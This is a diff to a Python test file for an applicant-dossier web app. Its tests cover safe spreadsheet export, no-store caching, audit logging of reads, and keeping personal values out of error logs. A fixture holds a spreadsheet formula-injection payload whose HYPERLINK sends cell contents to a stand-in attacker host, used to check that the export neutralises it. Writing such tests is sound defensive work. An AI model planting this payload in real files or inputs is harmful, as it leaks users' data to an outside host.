@@ -1,21 +1,33 @@
-"""Personal data stays put: exported cells that look like formulas stay text, and every
-page, form, PDF and file that may show an applicant's details answers `no-store`."""
+"""Personal data stays put: exported cells that look like formulas stay text; every page,
+form, PDF and file that may show an applicant's details answers `no-store`; reading them is
+audited; database errors reach the logs without a row's values."""
 
 import io
+import logging
 
 import time_machine
 from openpyxl import load_workbook
+from sqlalchemy.exc import IntegrityError
 from test_route_walk import ACCOUNTS, declared_roles
 
-from conftest import local_time
+from conftest import count, local_time
+from core.db.faults import fault_summary
+from core.models import AuditEvent, Dossier
 from core.reports.documents import tables_xlsx
 from core.reports.periods import month_period
 from core.reports.tables import Table
 from core.spreadsheets import FORMULA_LEADS
+from extensions import db
 from tests import factories
 
 FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
 PERSONAL_BLUEPRINTS = ("dossiers", "privacy", "desk", "dashboard")
+READING = (
+    "dossier.viewed",
+    "dossier.form_printed",
+    "reception_slip.printed",
+    "register.downloaded",
+)
 
 
 def test_a_formula_looking_name_is_exported_as_text(auth, client, demo):
@@ -78,3 +90,70 @@ def test_every_page_with_personal_data_answers_no_store(app, demo, auth):
     lookup = app.test_client().get(factories.lookup_path(dossier.code))
     assert lookup.status_code == 200 and lookup.headers["Cache-Control"] == "no-store"
     assert not problems, "\n".join(problems)
+
+
+def test_reading_personal_data_leaves_a_trace(app, demo, auth, client):
+    dossier = factories.dossier()
+    auth.login()
+    assert client.get(f"/dossiers/{dossier.code}").status_code == 200
+    assert client.get(f"/dossiers/{dossier.code}/print/receipt").status_code == 200
+    assert client.get(f"/dossiers/{dossier.code}/print/receipt.pdf").status_code == 200
+    assert client.get("/dossiers/register.xlsx?year=2026").status_code == 200
+    db.session.rollback()
+    events = db.session.scalars(
+        db.select(AuditEvent).where(AuditEvent.action.in_(READING)).order_by(AuditEvent.id)
+    ).all()
+    user = factories.user("canbo1")
+    assert [(event.action, event.user_id) for event in events] == [
+        ("dossier.viewed", user.id),
+        ("dossier.form_printed", user.id),
+        ("dossier.form_printed", user.id),
+        ("register.downloaded", user.id),
+    ]
+    assert events[0].subject_id == dossier.id and events[1].details == {"form": "receipt"}
+    assert events[3].details == {"format": "xlsx"} and events[3].subject_id == 2026
+    assert count(AuditEvent, action="dossier.viewed") == 1
+    # A refused look-up of another dossier writes nothing.
+    assert client.get("/dossiers/X-000000-0000").status_code == 404
+    assert count(AuditEvent, action="dossier.viewed") == 1
+
+
+def duplicate_of_a_dossier_missing_its_code(dossier):
+    """An insert the database refuses, carrying the applicant's details."""
+    row = db.session.execute(db.select(Dossier.__table__).filter_by(id=dossier.id)).mappings().one()
+    values = {column: value for column, value in row.items() if column not in ("id", "code")}
+    return db.insert(Dossier.__table__).values(**values, code=None)
+
+
+def test_database_errors_reach_the_logs_without_a_rows_values(app, demo, caplog):
+    dossier = factories.dossier(name="Hoàng Gia Bảo", id_number="001099887766")
+    for logger in (app.logger, logging.getLogger("print-worker")):
+        try:
+            db.session.execute(duplicate_of_a_dossier_missing_its_code(dossier))
+        except IntegrityError as error:
+            db.session.rollback()
+            logger.exception("could not save")
+            logger.error("could not save: %s", error)
+            logger.error("could not save: %s", error.orig)
+        else:
+            raise AssertionError("the insert was refused")
+    logged = caplog.text
+    saved = [line for line in logged.splitlines() if "could not save" in line]
+    assert len(saved) == 6 and all("Error" in line or "Violation" in line for line in saved)
+    assert "test_personal_data.py" in logged, "the traceback's frames stay"
+    for value in ("Hoàng Gia Bảo", "001099887766", "Hà Đông", "0912"):
+        assert value not in logged
+
+
+def test_a_faults_summary_names_the_constraint(app, demo):
+    dossier = factories.dossier()
+    row = db.session.execute(db.select(Dossier.__table__).filter_by(id=dossier.id)).mappings().one()
+    values = {column: value for column, value in row.items() if column != "id"}
+    try:
+        db.session.execute(db.insert(Dossier.__table__).values(**values))
+    except IntegrityError as error:
+        db.session.rollback()
+        summary = fault_summary(error)
+    assert summary.startswith("IntegrityError / ")
+    assert "(constraint " in summary and "dossier" in summary.split("(constraint ")[1]
+    assert dossier.code not in summary and "Nguyễn" not in summary
